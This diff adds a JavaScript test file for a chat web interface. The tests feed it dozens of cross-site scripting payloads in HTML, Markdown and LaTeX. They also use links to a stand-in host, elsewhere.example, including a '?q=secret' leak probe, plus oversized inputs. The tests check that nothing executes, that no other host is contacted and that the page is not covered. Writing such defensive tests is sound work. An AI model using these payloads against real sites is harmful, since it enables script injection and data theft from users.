@@ -1,0 +1,184 @@
+// Texts of the model and of files are untrusted: whatever they contain, in whatever field, is shown or dropped, and does
+// nothing.
+
+import assert from "node:assert/strict";
+import { writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import { test } from "node:test";
+import { visit } from "./harness.mjs";
+import { ask, idle, lastAnswer } from "./page.mjs";
+
+const ELSEWHERE = "https://elsewhere.example";
+
+// Each would set `window.hit`, ask another host, or cover the page.
+const MARKUP = [
+  `<img src=x onerror="window.hit='img'">`,
+  `<img src="${ELSEWHERE}/a.png?q=secret">`,
+  `<script>window.hit='script'</script>`,
+  `<script src="${ELSEWHERE}/a.js"></script>`,
+  `<svg onload="window.hit='svg'"><a xlink:href="javascript:window.hit='svg'"><text>x</text></a></svg>`,
+  `<iframe srcdoc="<script>parent.hit='frame'</script>"></iframe>`,
+  `<iframe src="javascript:parent.hit='frame'"></iframe>`,
+  `<object data="${ELSEWHERE}/a"></object><embed src="${ELSEWHERE}/a">`,
+  `<a href="javascript:window.hit='link'" id="message">a link</a>`,
+  `<a href=" &#106;avascript:window.hit='link'">a link</a>`,
+  `<a href="data:text/html,<script>opener.hit='data'</script>">a link</a>`,
+  `<form action="${ELSEWHERE}"><button formaction="javascript:window.hit='form'">Send</button></form>`,
+  `<style>* { display: none !important } @import url(${ELSEWHERE}/a.css);</style>`,
+  `<link rel="stylesheet" href="${ELSEWHERE}/a.css"><link rel="prefetch" href="${ELSEWHERE}/a">`,
+  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}"><base href="${ELSEWHERE}">`,
+  `<div style="position: fixed; inset: 0; background: red; z-index: 9999" class="veil">over everything</div>`,
+  `<p id="app" name="body" class="hidden">named</p>`,
+  `<video autoplay src="${ELSEWHERE}/a.mp4" onerror="window.hit='video'"></video>`,
+  `<details open ontoggle="window.hit='toggle'"><summary onclick="window.hit='click'">more</summary>x</details>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="window.hit='mathml'"></style></mglyph></table></mtext></math>`,
+  `<noscript><p title="</noscript><img src=x onerror=window.hit='noscript'>"></noscript>`,
+  `<template><img src=x onerror="window.hit='template'"></template>`,
+  `<input autofocus onfocus="window.hit='focus'">`,
+];
+const MARKDOWN = [
+  `![picture](${ELSEWHERE}/a.png?q=secret)`,
+  `![picture](javascript:window.hit='image')`,
+  `[a link](javascript:window.hit='markdown')`,
+  `[a link](<java\nscript:window.hit='markdown'>)`,
+  `[a link](${ELSEWHERE} "x\\" onmouseover=\\"window.hit='title'")`,
+  `[a link][ref] and ![picture][ref]\n\n[ref]: javascript:window.hit='reference'`,
+  `<javascript:window.hit='autolink'>`,
+  "```html\" onclick=\"window.hit='language'\n<img src=x onerror=\"window.hit='code'\">\n```",
+  "`<img src=x onerror=\"window.hit='code'\">`",
+  `| <img src=x onerror="window.hit='table'"> | b |\n|---|---|\n| [a](javascript:window.hit='cell') | ![](${ELSEWHERE}/t.png) |`,
+  `$\\href{javascript:window.hit='formula'}{x}$ and $\\url{javascript:window.hit='formula'}$`,
+  `$$\\includegraphics{${ELSEWHERE}/f.png}$$`,
+  `$$\\htmlStyle{position:fixed;inset:0}{x} \\class{veil}{y} \\id{app}{z} \\data{lang=a}{b}$$`,
+  `$$\\def\\a{\\a\\a}\\a$$`,
+  `$$\\rule{100000em}{100000em} \\hspace{9999999em} x$$`,
+  `$<img src=x onerror="window.hit='formula'">$`,
+];
+const HOSTILE = [...MARKUP, ...MARKDOWN].join("\n\n");
+
+/** Fails if a text has done anything. */
+async function checkUnharmed(page) {
+  const found = await page.evaluate(() => {
+    for (const summary of document.querySelectorAll("summary")) summary.click();
+    const content = [...document.querySelectorAll(".message, .sidebar, dialog, .bar")];
+    const all = content.flatMap((part) => [...part.querySelectorAll("*")]);
+    const named = (element) => `${element.tagName} ${element.outerHTML.slice(0, 200)}`;
+    const never = "script, style, link, iframe, object, embed, img, video, audio, base, meta, template, noscript";
+    const handlers = (element) => element.getAttributeNames().some((name) => name.startsWith("on"));
+    const address = (element) => element.getAttribute("href") ?? element.getAttribute("src") ?? element.getAttribute("action");
+    const composer = document.querySelector("#message").getBoundingClientRect();
+    const top = document.elementFromPoint(composer.x + composer.width / 2, composer.y + composer.height / 2);
+    return {
+      hit: window.hit,
+      never: all.filter((element) => element.matches(never)).map(named),
+      handlers: all.filter(handlers).map(named),
+      addresses: all.filter((element) => !/^(https?:|mailto:|#|$)/.test(address(element) ?? "")).map(named),
+      // The library for formulas writes styles of its own.
+      styled: all.filter((element) => element.matches(".prose [style]:not(math, math *, .temml-error)")).map(named),
+      ids: [...document.querySelectorAll("#app, #message")].map((element) => element.tagName),
+      composer: top?.id,
+      wide: document.documentElement.scrollWidth > innerWidth,
+      address: location.origin,
+    };
+  });
+  const address = new URL(page.url()).origin;
+  const none = { never: [], handlers: [], addresses: [], styled: [], wide: false };
+  assert.deepEqual(found, { ...none, ids: ["DIV", "TEXTAREA"], composer: "message", address, hit: undefined });
+}
+
+test("hostile reasoning and answers do nothing", async (t) => {
+  const write = `${HOSTILE}</think>\n\n${HOSTILE}`;
+  const { page } = await visit(t, { answers: { go: { write } } });
+  await ask(page, "go");
+  await idle(page);
+  await lastAnswer(page).getByRole("button", { name: "Reasoning" }).click();
+  await checkUnharmed(page);
+  await page.reload();
+  await lastAnswer(page).waitFor();
+  await checkUnharmed(page);
+});
+
+test("a hostile answer does nothing at any moment while it is written", async (t) => {
+  const { page } = await visit(t, { answers: { go: { write: `</think>\n\n${HOSTILE}`, rate: 400 } } });
+  await ask(page, "go");
+  await lastAnswer(page).waitFor();
+  while (await page.getByRole("button", { name: "Stop" }).count()) await checkUnharmed(page);
+  await idle(page);
+  await checkUnharmed(page);
+});
+
+test("hostile calls, their results and the texts of the user do nothing", async (t) => {
+  const call = { name: MARKUP[0], arguments: { [MARKUP[2]]: HOSTILE } };
+  const { page } = await visit(t, {
+    answers: { [HOSTILE.trim()]: { write: [`</think>\n\n<tool_call>${JSON.stringify(call)}</tool_call>`, "</think>\n\nDone."] } },
+  });
+  await page.locator("#message").waitFor();
+  await page.evaluate(async (name) => {
+    const { current } = await import("/app/conversations.js");
+    const tools = [{ type: "function", function: { name, description: name, parameters: { type: "object" } } }];
+    current.value.settings = { tools: JSON.stringify(tools) };
+  }, MARKUP[0]);
+  await ask(page, HOSTILE);
+  await idle(page);
+  await checkUnharmed(page);
+  const result = page.locator("form.calls textarea");
+  if (await result.count()) {
+    await result.fill(HOSTILE);
+    await page.getByRole("button", { name: "Send results" }).click();
+    await idle(page);
+  }
+  await checkUnharmed(page);
+});
+
+/** Imports a conversation and shows it. */
+async function openFile(page, server, lines) {
+  const file = join(server.folder, "imported.jsonl");
+  await writeFile(file, lines.map((line) => JSON.stringify(line)).join("\n"));
+  await page.locator("input[type=file][accept*=jsonl]").setInputFiles(file);
+  await page.locator(".sidebar .entry").first().click();
+  await lastAnswer(page).locator(".prose:not(.plain)").waitFor();
+}
+
+test("a hostile file of conversations does nothing", async (t) => {
+  const { page, server } = await visit(t);
+  const text = (role, more = {}) => ({ role, content: HOSTILE, reasoning_content: HOSTILE, ...more });
+  const call = { id: MARKUP[0], type: "function", function: { name: MARKUP[0], arguments: HOSTILE } };
+  const lines = [
+    { ggrun_session: 2, model: MARKUP[0], title: MARKUP[0], page: { title: MARKUP[0] } },
+    { id: MARKUP[0], parent: null, ...text("system") },
+    { parent: 0, ...text("user") },
+    { parent: 1, ...text("assistant", { tool_calls: [call], page: { finish: MARKUP[0], timings: { prompt_n: MARKUP[0] } } }) },
+    { parent: 2, ...text("tool", { name: MARKUP[0], tool_call_id: MARKUP[0] }) },
+    { parent: 3, ...text("assistant") },
+  ];
+  await openFile(page, server, lines);
+  await checkUnharmed(page);
+  await page.getByRole("button", { name: /^Actions for/ }).first().click();
+  await checkUnharmed(page);
+});
+
+test("a hostile name of the model does nothing", async (t) => {
+  const { page } = await visit(t, { args: ["--alias", MARKUP[0]] });
+  await page.locator(".bar .muted", { hasText: "onerror" }).waitFor();
+  await checkUnharmed(page);
+});
+
+test("giant tables, lines and lists stay inside the page", async (t) => {
+  const { page, server } = await visit(t);
+  const cells = (text, number) => `|${` ${text} |`.repeat(number)}`;
+  const table = [cells("head", 100), cells("---", 100), ...Array(100).fill(cells("cell", 100))].join("\n");
+  const list = Array.from({ length: 60 }, (_, depth) => `${"  ".repeat(depth)}- item`).join("\n");
+  const code = `\`\`\`js\n${"y".repeat(100_000)}\n\`\`\``;
+  const formula = `$$${"x + ".repeat(2000)}y$$`;
+  const content = [table, "x".repeat(100_000), list, `${"> ".repeat(200)}deep`, code, formula].join("\n\n");
+  await openFile(page, server, [
+    { ggrun_session: 2, model: "m", title: "w".repeat(1000) },
+    { parent: null, role: "user", content: "u".repeat(100_000) },
+    { parent: 0, role: "assistant", content, reasoning_content: content },
+  ]);
+  await lastAnswer(page).getByRole("button", { name: "Reasoning" }).click();
+  await checkUnharmed(page);
+  await page.setViewportSize({ width: 360, height: 740 });
+  await page.getByRole("button", { name: "Hide conversations" }).click();
+  await checkUnharmed(page);
+});
